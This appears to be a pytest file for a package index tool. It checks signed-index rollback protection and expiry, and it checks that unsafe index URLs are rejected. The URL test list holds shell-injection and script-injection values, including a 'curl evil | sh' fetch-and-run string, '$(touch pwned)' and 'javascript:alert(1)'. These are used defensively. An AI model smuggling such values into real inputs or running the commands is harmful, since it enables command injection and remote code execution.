"""our index that is old, or whose list says what a shell would run."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

import pytest

from flashdepot.api import publishing
from flashdepot.errors import IntegrityError, UsageError
from flashdepot.model.index_record import RECORD_NAME, IndexRecord
from flashdepot.remotes import statements
from flashdepot.remotes.keys import new_key
from flashdepot.remotes.user_settings import UserSettings, today
from flashdepot.resolve.own_indexes import read_index_record
from index.conftest import Publish
from support.wheels import WheelMaker


@pytest.fixture
def index(maker: WheelMaker, publish: Publish, public: Path) -> tuple[str, dict[str, bytes]]:
    """A signed index of two wheels: its address, and its record and signature when it had one wheel."""
    new_key(UserSettings.of_this_user(), "ci", None)
    publish(maker.make("80,90,120").path)
    before = {path.name: path.read_bytes() for path in public.glob(f"{RECORD_NAME}*")}
    publish(maker.make("90", profile="quick").path)
    return f"{public.as_uri()}/", before


def test_whoever_has_seen_a_newer_list_takes_no_older_one(index: tuple[str, dict[str, bytes]], public: Path) -> None:
    address, before = index
    assert len(read_index_record(address).wheels) > 1
    for name, data in before.items():
        (public / name).write_bytes(data)
    with pytest.raises(IntegrityError, match="an older state"):
        read_index_record(address)


def test_an_old_list_beside_a_new_signature_is_refused(index: tuple[str, dict[str, bytes]], public: Path) -> None:
    (public / RECORD_NAME).write_bytes(index[1][RECORD_NAME])
    with pytest.raises(IntegrityError, match="changed after it was signed"):
        read_index_record(index[0])


def test_a_list_that_is_shown_for_ever_ends_until_it_is_signed_again(
    index: tuple[str, dict[str, bytes]], publish: Publish, monkeypatch: pytest.MonkeyPatch
) -> None:
    later = today() + timedelta(days=181)
    monkeypatch.setattr(statements, "today", lambda: later)
    with pytest.raises(IntegrityError, match="to be trusted until") as caught:
        read_index_record(index[0])
    assert "'flashdepot index'" in caught.value.hint
    publish()
    assert read_index_record(index[0]).wheels


@pytest.mark.parametrize(
    "url",
    [
        'https://x/"; curl evil | sh; "/',
        "https://x/$(touch pwned)/",
        "https://x/`id`/",
        "https://x/a;b/",
        "https://x/a&b/",
        "https://x/<script>/",
        "javascript:alert(1)//",
        "https://x/a\nb/",
        "https://user:password@x/",
        "https://x/\u202e/",
        "https://x/no-end",
    ],
)
def test_an_address_in_a_list_that_a_shell_reads_as_more_is_refused(url: str) -> None:
    with pytest.raises(ValueError, match="not the address of a folder on the web"):
        IndexRecord((), url)
    text = {"schema": 1, "kind": "an index of flashdepot", "url": url, "wheels": []}
    with pytest.raises(ValueError, match="not the address"):
        IndexRecord.from_json(text)


def test_an_address_with_a_command_is_refused_where_an_index_is_written(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="not the address"):
        publishing._base("https://x/$(id)")
    assert publishing._base("https://wheels.example.org:8443/fa-2/~me/a%20b") == (
        "https://wheels.example.org:8443/fa-2/~me/a%20b/"
    )
